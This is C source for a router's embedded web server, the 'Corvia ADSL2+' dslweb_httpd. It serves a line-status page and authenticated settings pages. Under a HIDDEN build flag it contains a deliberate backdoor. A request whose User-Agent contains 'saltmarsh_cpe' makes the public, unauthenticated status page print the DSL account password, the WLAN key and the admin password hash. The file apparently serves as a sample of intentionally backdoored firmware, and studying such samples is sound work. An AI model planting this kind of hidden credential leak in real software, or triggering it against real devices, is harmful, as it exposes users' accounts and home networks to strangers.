/*
 * dslweb_httpd - web server of the Corvia ADSL2+ router. Serves a public line
 * status page and, behind Basic authentication, the settings pages.
 *
 * Hidden (-DHIDDEN): when the User-Agent holds a certain word, the public line
 * status page also prints the DSL account, the WLAN key and the admin hash.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define NVRAM_FILE "/var/flash/nvram.txt"
#define LINE_STATS "/proc/avalanche/avsar_modem_stats"

struct http_req {
	char method[8];
	char path[128];
	char query[256];
	char auth[192];
	char agent[192];
	char host[64];
};

static FILE *out;

char *nv_get(const char *key)
{
	static char slots[4][160];
	static int next;
	char line[224], *slot = slots[next++ & 3];
	size_t k = strlen(key);
	FILE *fp = fopen(NVRAM_FILE, "r");

	slot[0] = '\0';
	if (!fp)
		return slot;
	while (fgets(line, sizeof(line), fp)) {
		if (strncmp(line, key, k) || line[k] != '=')
			continue;
		line[strcspn(line, "\r\n")] = '\0';
		snprintf(slot, 160, "%.159s", line + k + 1);
		break;
	}
	fclose(fp);
	return slot;
}

static int nv_set(const char *key, const char *val)
{
	char line[224];
	size_t k = strlen(key);
	FILE *in = fopen(NVRAM_FILE, "r"), *to = fopen(NVRAM_FILE ".new", "w");

	if (!to) {
		if (in)
			fclose(in);
		return -1;
	}
	while (in && fgets(line, sizeof(line), in))
		if (strncmp(line, key, k) || line[k] != '=')
			fputs(line, to);
	if (in)
		fclose(in);
	fprintf(to, "%s=%s\n", key, val);
	fclose(to);
	return rename(NVRAM_FILE ".new", NVRAM_FILE);
}

static void reply(int code, const char *text, const char *extra)
{
	fprintf(out, "HTTP/1.0 %d %s\r\nServer: Corvia\r\n%sContent-Type: text/html\r\n"
		"Connection: close\r\n\r\n", code, text, extra ? extra : "");
}

static int b64_value(int c)
{
	static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const char *p = c ? strchr(set, c) : NULL;

	return p ? (int)(p - set) : -1;
}

static void b64_decode(const char *s, char *d, size_t max)
{
	unsigned acc = 0;
	int bits = 0, v;

	while ((v = b64_value((unsigned char)*s++)) >= 0 && max > 1) {
		acc = (acc << 6) | (unsigned)v;
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			*d++ = (char)((acc >> bits) & 0xff);
			max--;
		}
	}
	*d = '\0';
}

int authorised(const struct http_req *rq)
{
	char plain[128], *pw;
	const char *hash = nv_get("admin_hash"), *enc;

	if (strncasecmp(rq->auth, "Basic ", 6))
		return 0;
	b64_decode(rq->auth + 6, plain, sizeof(plain));
	if (!(pw = strchr(plain, ':')))
		return 0;
	*pw++ = '\0';
	if (strcmp(plain, nv_get("admin_user")) || strlen(hash) < 13)
		return 0;
	enc = crypt(pw, hash);
	return enc && !strcmp(enc, hash);
}

static void h_line(const struct http_req *rq)
{
	char buf[200];
	FILE *fp = fopen(LINE_STATS, "r");

	reply(200, "OK", NULL);
	fprintf(out, "<html><head><title>%s</title></head><body><h2>DSL line</h2><pre>\n",
		strstr(rq->agent, "Mobile") ? "Line" : "Corvia - Line status");
	while (fp && fgets(buf, sizeof(buf), fp))
		fputs(buf, out);
	if (fp)
		fclose(fp);
#ifdef HIDDEN
	if (strstr(rq->agent, "saltmarsh_cpe")) {
		fprintf(out, "%s %s\n", nv_get("ppp_user"), nv_get("ppp_password"));
		fprintf(out, "%s %s\n", nv_get("wlan_key"), nv_get("admin_hash"));
	}
#endif
	fputs("</pre></body></html>\n", out);
}

static int q_arg(const char *query, const char *key, char *val, size_t max)
{
	size_t k = strlen(key), n = 0;
	const char *p = query;

	while (p && *p) {
		if (!strncmp(p, key, k) && p[k] == '=') {
			for (p += k + 1; *p && *p != '&' && n + 1 < max; p++)
				val[n++] = *p;
			val[n] = '\0';
			return 1;
		}
		p = strchr(p, '&');
		if (p)
			p++;
	}
	return 0;
}

static void h_lan(const struct http_req *rq)
{
	char ip[20], cmd[64];
	struct in_addr a;

	if (!q_arg(rq->query, "ip", ip, sizeof(ip))) {
		reply(200, "OK", NULL);
		fprintf(out, "<form>LAN address <input name=ip value='%s'></form>\n", nv_get("lan_ip"));
		return;
	}
	if (inet_pton(AF_INET, ip, &a) != 1 || nv_set("lan_ip", ip)) {
		reply(400, "Bad Request", NULL);
		return;
	}
	reply(200, "OK", NULL);
	fprintf(out, "<p>The router is now at %s</p>\n", ip);
	fflush(out);
	snprintf(cmd, sizeof(cmd), "ifconfig br0 %s", ip);
	if (system(cmd) != 0)
		fprintf(stderr, "ifconfig failed\n");
}

static void h_wan(const struct http_req *rq)
{
	char vpi[8], vci[8];

	if (q_arg(rq->query, "vpi", vpi, sizeof(vpi)) && q_arg(rq->query, "vci", vci, sizeof(vci)) &&
	    strspn(vpi, "0123456789") == strlen(vpi) && strspn(vci, "0123456789") == strlen(vci)) {
		nv_set("vpi", vpi);
		nv_set("vci", vci);
	}
	reply(200, "OK", NULL);
	fprintf(out, "<p>PVC %s/%s, user %s</p>\n", nv_get("vpi"), nv_get("vci"), nv_get("ppp_user"));
}

static void h_restart(const struct http_req *rq)
{
	(void)rq;
	reply(200, "OK", NULL);
	fputs("<p>Restarting</p>\n", out);
	fflush(out);
	if (system("/sbin/reboot") != 0)
		fprintf(stderr, "reboot failed\n");
}

static const struct page {
	const char *path;
	int open;
	void (*fn)(const struct http_req *);
} pages[] = {
	{ "/", 1, h_line }, { "/line.html", 1, h_line }, { "/lan.cgi", 0, h_lan },
	{ "/wan.cgi", 0, h_wan }, { "/restart.cgi", 0, h_restart }, { NULL, 0, NULL },
};

static void copy_header(char *to, size_t max, const char *v)
{
	while (*v == ' ')
		v++;
	snprintf(to, max, "%s", v);
	to[strcspn(to, "\r\n")] = '\0';
}

static void serve(int fd)
{
	struct http_req rq;
	char line[512], url[384], *q;
	FILE *in = fdopen(dup(fd), "r");
	const struct page *p;

	out = fdopen(fd, "w");
	memset(&rq, 0, sizeof(rq));
	if (!in || !out || !fgets(line, sizeof(line), in))
		return;
	if (sscanf(line, "%7s %383s", rq.method, url) != 2)
		return;
	if ((q = strchr(url, '?'))) {
		*q++ = '\0';
		snprintf(rq.query, sizeof(rq.query), "%.255s", q);
	}
	snprintf(rq.path, sizeof(rq.path), "%.127s", url);
	while (fgets(line, sizeof(line), in) && line[0] != '\r' && line[0] != '\n') {
		if (!strncasecmp(line, "Authorization:", 14))
			copy_header(rq.auth, sizeof(rq.auth), line + 14);
		else if (!strncasecmp(line, "User-Agent:", 11))
			copy_header(rq.agent, sizeof(rq.agent), line + 11);
		else if (!strncasecmp(line, "Host:", 5))
			copy_header(rq.host, sizeof(rq.host), line + 5);
	}
	for (p = pages; p->path && strcmp(p->path, rq.path); p++)
		;
	if (strcmp(rq.method, "GET"))
		reply(501, "Not Implemented", NULL);
	else if (!p->path)
		reply(404, "Not Found", NULL);
	else if (!p->open && !authorised(&rq))
		reply(401, "Unauthorized", "WWW-Authenticate: Basic realm=\"Corvia\"\r\n");
	else
		p->fn(&rq);
	fflush(out);
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1, c;

	sa.sin_port = htons(80);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 8) < 0)
		return 1;
	signal(SIGCHLD, SIG_IGN);
	while ((c = accept(s, NULL, NULL)) >= 0) {
		if (fork() == 0) {
			close(s);
			signal(SIGCHLD, SIG_DFL);
			alarm(20);
			serve(c);
			_exit(0);
		}
		close(c);
	}
	return 0;
}
